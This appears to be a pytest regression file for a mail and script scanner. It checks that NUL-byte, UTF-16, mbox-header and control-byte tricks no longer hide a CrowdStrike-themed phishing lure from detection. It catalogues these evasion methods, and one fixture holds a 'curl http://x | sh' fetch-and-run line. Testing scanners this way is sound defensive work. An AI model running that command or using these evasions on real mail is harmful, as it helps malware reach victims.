"""Issue 13: one byte must not buy a clean verdict.  Type detection never reduces scanning.

Each case hides a real lure (samples/lures/mail/falcon_winmail.eml: a TNEF winmail.dat holding
a ZIP holding the fix script) behind a trick a mail client or a shell shrugs off, and asserts
that the script three levels down is still found, so the MIME tree was opened, not merely the
message typed as text.  Before the fix each one came out CLEAN, or typed data/text with the
attachment never opened.
"""

from __future__ import annotations

from collections.abc import Callable

import pytest
from helpers import SAMPLES, run_scamscan

from scanner.api import Scanner
from scanner.filetypes import FileType, identify
from scanner.models import Verdict

LURE = (SAMPLES / "lures" / "mail" / "falcon_winmail.eml").read_bytes()  # CRLF line ends
SCRIPT = ("winmail.dat", "Falcon_Sensor_Hotfix.zip", "Falcon_Sensor_Hotfix.bat")
LF = LURE.replace(b"\r\n", b"\n")
MIXED = b"".join(line + (b"\n" if i % 2 else b"\r\n") for i, line in enumerate(LF.split(b"\n")))
MID = len(LURE) // 2
MBOX_FROM = b"From support@crowdstrike-fix.com Sat Jul 20 08:31:00 2024\r\n"

EVASIONS: dict[str, bytes] = {
    "nul_at_start": b"\0" + LURE,
    "nul_at_end_crlf": LURE + b"\0\r\n",
    "nul_in_middle": LURE[:MID] + b"\0" + LURE[MID:],
    "nul_in_header_line": LURE.replace(b"\r\nSubject:", b"\r\n\0Subject:", 1),
    "lf_with_nul": LF + b"\0\n",
    "mixed_line_ends_with_nul": MIXED + b"\0",
    "utf16le_bom": "\ufeff".encode("utf-16-le") + LURE.decode("ascii").encode("utf-16-le"),
    "utf16le_no_bom": LURE.decode("ascii").encode("utf-16-le"),
    "utf16be_bom": "\ufeff".encode("utf-16-be") + LURE.decode("ascii").encode("utf-16-be"),
    "utf8_bom_with_nul": b"\xef\xbb\xbf" + LURE[:MID] + b"\0" + LURE[MID:],
    "leading_blank_lines": b"\r\n\r\n  \r\n" + LURE,
    "blank_line_then_mbox_from": b"\n" + MBOX_FROM + LURE,
    "mbox_from_with_nul": MBOX_FROM + b"\0" + LURE,
    "control_bytes_in_headers": LURE.replace(b"\r\nTo:", b"\r\n\x01\x02To:", 1),
}


@pytest.fixture(scope="module")
def scanner(tmp_path_factory: pytest.TempPathFactory) -> Scanner:
    from scanner.config import Settings

    cache = tmp_path_factory.mktemp("evasion-cache")
    return Scanner(Settings().replace(cache_dir=str(cache), result_cache=False, jobs=1))


def _script_found(report_findings: list[tuple[str, ...]]) -> bool:
    return any(loc[-3:] == SCRIPT for loc in report_findings)


@pytest.mark.parametrize("name", list(EVASIONS))
def test_mail_evasion_still_opens_the_attachments(scanner: Scanner, name: str) -> None:
    data = EVASIONS[name]
    assert identify(data) in (FileType.EMAIL, FileType.MBOX), name
    report = scanner.scan_bytes(data, f"{name}.eml")
    assert report.verdict == Verdict.MALICIOUS
    assert _script_found([f.location for f in report.findings]), [f.location for f in report.findings]
    assert any(f.id == "brand_display_name" for f in report.findings)  # the headers were parsed too


def test_the_untouched_lure_is_the_baseline(scanner: Scanner) -> None:
    report = scanner.scan_bytes(LURE, "falcon_winmail.eml")
    assert _script_found([f.location for f in report.findings])


SCRIPT_LURE = (SAMPLES / "lures" / "crowdstrike_fix.ps1").read_bytes()


@pytest.mark.parametrize(("name", "data"), [
    ("nul_every_third_byte", b"\0".join(SCRIPT_LURE[i:i + 3] for i in range(0, len(SCRIPT_LURE), 3))),
    ("utf16le_no_bom", SCRIPT_LURE.decode("utf-8").encode("utf-16-le")),
    ("control_bytes_every_fifth", b"\x01".join(SCRIPT_LURE[i:i + 5] for i in range(0, len(SCRIPT_LURE), 5))),
])
def test_script_evasion_is_decoded_for_the_text_rules(scanner: Scanner, name: str, data: bytes) -> None:
    plain = scanner.scan_bytes(SCRIPT_LURE, "fix.ps1")
    report = scanner.scan_bytes(data, f"{name}.ps1")
    assert report.type == "text"
    assert report.verdict == Verdict.MALICIOUS
    plain_rules = {f.id for f in plain.findings if f.check == "yara"}
    assert plain_rules <= {f.id for f in report.findings if f.check == "yara"}
    assert any(f.location[-1] == "decoded-text.txt" for f in report.findings)


def test_decoded_child_does_not_repeat_its_parent(scanner: Scanner) -> None:
    data = b"\xff\xfe" + SCRIPT_LURE.decode("utf-8").encode("utf-16-le")  # decode_text reads it at the parent too
    report = scanner.scan_bytes(data, "fix.ps1")
    keys = [(f.check, f.id, f.message) for f in report.findings]
    assert len(keys) == len(set(keys))


@pytest.mark.parametrize(("head", "expected"), [
    (b"\0<!DOCTYPE html><html><body>x</body></html>", FileType.HTML),
    (b"\0\0\0#!/bin/sh\ncurl http://x | sh\n", FileType.TEXT),
    (b"@echo off\r\n\x01\x02\x03\x04\x05" + bytes(range(0x80, 0x100)) * 2, FileType.TEXT),
    (b"\0" * 100 + b"MZ" + bytes(range(256)) * 8, FileType.DATA),
])
def test_head_structure_wins_over_stray_bytes(head: bytes, expected: FileType) -> None:
    assert identify(head) == expected


def test_pipe_filter_flags_the_nul_prefixed_lure() -> None:
    out = run_scamscan(["filter"], input=b"\0" + LURE)
    assert out.returncode == 0, out.stderr
    assert out.stdout.startswith(b"X-Scamscan-Verdict: malicious\r\n")
    assert out.stdout.endswith(b"\0" + LURE)  # the message itself passes through unchanged


def test_no_false_structure_in_binary_noise(make_scanner: Callable[..., Scanner]) -> None:
    noise = bytes((i * 131 + 7) % 256 for i in range(8192))
    assert identify(noise) == FileType.DATA
